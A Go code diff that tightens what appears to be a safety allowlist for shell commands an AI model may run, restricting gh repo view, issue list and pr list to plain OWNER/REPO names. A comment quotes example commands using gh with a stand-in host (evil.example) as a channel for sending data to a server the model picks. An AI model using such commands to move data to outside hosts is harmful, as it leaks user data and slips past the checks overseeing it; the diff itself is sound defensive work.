@@ -273,9 +273,9 @@ var commands = sync.OnceValue(func() map[string]*cmdSpec {
 		ghList = flags("d"+"a:A:B:H:l:L:s:S:m:R:q:t:", "--assignee= --author= --base= --head= --label= "+
 			"--limit= --state= --search= --json= --jq= --template= --app= --draft --mention= --milestone= --repo=")
 		ghSubs = map[string]*cmdSpec{
-			"repo":   {ops: opWords, subs: map[string]*cmdSpec{"view": {flags: flags("b:q:t:", "--branch= --json= --jq= --template="), ops: opWords, maxOps: 1}}},
-			"issue":  {ops: opWords, subs: map[string]*cmdSpec{"list": {flags: ghList}}},
-			"pr":     {ops: opWords, subs: map[string]*cmdSpec{"list": {flags: ghList}}},
+			"repo":   {ops: opWords, subs: map[string]*cmdSpec{"view": {flags: flags("b:q:t:", "--branch= --json= --jq= --template="), ops: opWords, maxOps: 1, check: ghRepoOnGitHub}}},
+			"issue":  {ops: opWords, subs: map[string]*cmdSpec{"list": {flags: ghList, check: ghRepoOnGitHub}}},
+			"pr":     {ops: opWords, subs: map[string]*cmdSpec{"list": {flags: ghList, check: ghRepoOnGitHub}}},
 			"status": {flags: flags("e:o:", "--exclude= --org=")},
 		}
 
@@ -583,6 +583,39 @@ func findReadOnly(args []arg) (starts []arg, why string) {
 		}
 	}
 	return starts, ""
+}
+
+// ghRepoOnGitHub lets gh name a repository only as [OWNER/]REPO: gh
+// also takes HOST/OWNER/REPO and URLs (gh pr list -R evil.example/o/DATA,
+// gh repo view https://evil.example/o/r) and sends its request to that
+// host, a channel out to a server the model picks.
+func ghRepoOnGitHub(p *parsedArgs) string {
+	repos := append(append([]arg(nil), p.vals["-R"]...), p.vals["--repo"]...)
+	repos = append(repos, p.operands...)
+	for _, a := range repos {
+		if !a.literal || !ghRepoName(a.value) {
+			return "it contacts a host given by its repository"
+		}
+	}
+	if n := len(p.flags["-R"]) + len(p.flags["--repo"]); n != len(p.vals["-R"])+len(p.vals["--repo"]) {
+		return "it contacts a host given by its repository"
+	}
+	return ""
+}
+
+// ghRepoName reports whether s is REPO or OWNER/REPO, which gh resolves
+// on its default host only.
+func ghRepoName(s string) bool {
+	parts := strings.Split(s, "/")
+	if len(parts) > 2 {
+		return false
+	}
+	for _, part := range parts {
+		if part == "" || strings.Trim(part, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._-") != "" {
+			return false
+		}
+	}
+	return true
 }
 
 // remoteShow lets git remote show contact only a remote by its name (or
